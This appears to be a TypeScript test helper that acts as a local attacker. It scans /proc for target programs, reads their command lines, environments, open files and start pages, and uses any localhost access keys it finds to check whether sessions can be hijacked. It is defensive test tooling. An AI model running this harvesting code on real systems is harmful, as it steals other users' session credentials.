import { access, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { basename, dirname, join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';

/**
 * Somebody of the machine who looks for a way in: `node thief-child.mjs PROGRAMS MARKS BEFORE LAST FOLDER…`. Of every process
 * that runs a program of the folder PROGRAMS it reads all that it can: its command line, its environment, its open files, the
 * start page that it was given and the folder of that, and each FOLDER; it redeems every key that it finds and lays a mark for
 * the program into MARKS. It waits for the mark of the same program in BEFORE (`-` = for none), and ends after that of LAST.
 * Says what it won.
 */
const [programs = '', marks = '', before = '', last = '', ...folders] = process.argv.slice(2);
const START = /file:\/\/\S*mingzhang-start-[^\s\0]*/;
const ADDRESS = /http:\/\/127\.0\.0\.1:\d+\/\?key=([0-9a-f]{64})/g;

const keys = new Set<string>();
const tried: string[] = [];
let entered = 0;

/** Far more than a start page has. */
const LARGEST = 1_000_000;

/** Never a pipe, which would keep it waiting. */
async function readable(path: string): Promise<string> {
  const found = await stat(path).catch(() => null);
  if (found === null || !found.isFile() || found.size > LARGEST) return '';
  return await readFile(path, 'latin1').catch(() => '');
}

async function names(folder: string): Promise<string[]> {
  return await readdir(folder).catch(() => []);
}

/** What a folder shows to this user, two levels deep. */
async function filesOf(folder: string, depth: number): Promise<string[]> {
  const paths = (await names(folder)).map((name) => join(folder, name));
  if (depth === 0) return paths;
  return [...paths, ...(await Promise.all(paths.map((path) => filesOf(path, depth - 1)))).flat()];
}

async function redeemAll(text: string): Promise<void> {
  for (const [address, key = ''] of text.matchAll(ADDRESS)) {
    if (keys.has(key)) continue;
    keys.add(key);
    const answer = await fetch(address, { redirect: 'manual' });
    if (answer.headers.get('set-cookie') !== null) entered += 1;
  }
}

async function rob(pid: string, commandLine: string): Promise<void> {
  const program = commandLine.split('\0').find((word) => word.startsWith(`${programs}/`)) ?? '';
  const name = basename(program);
  if (name === '' || tried.includes(name) || !(before === '-' || (await exists(join(before, name))))) return;
  tried.push(name);
  await redeemAll(commandLine);
  const descriptors = (await names(`/proc/${pid}/fd`)).map((fd) => `/proc/${pid}/fd/${fd}`);
  const page = START.exec(commandLine)?.[0];
  const pages = page === undefined ? [] : [fileURLToPath(page)];
  const places = [...folders, ...pages.map((path) => dirname(path))];
  const elsewhere = (await Promise.all(places.map((folder) => filesOf(folder, 1)))).flat();
  for (const file of new Set([...pages, `/proc/${pid}/environ`, ...descriptors, ...elsewhere]))
    await redeemAll(await readable(file));
  await writeFile(join(marks, name), '');
}

async function exists(path: string): Promise<boolean> {
  return await access(path).then(
    () => true,
    () => false,
  );
}

while (!tried.includes(last)) {
  for (const pid of (await names('/proc')).filter((name) => /^\d+$/.test(name)))
    await rob(pid, await readable(`/proc/${pid}/cmdline`));
  await setTimeout(20);
}
console.log(JSON.stringify({ user: process.getuid?.(), tried: tried.sort(), keys: keys.size, entered }));
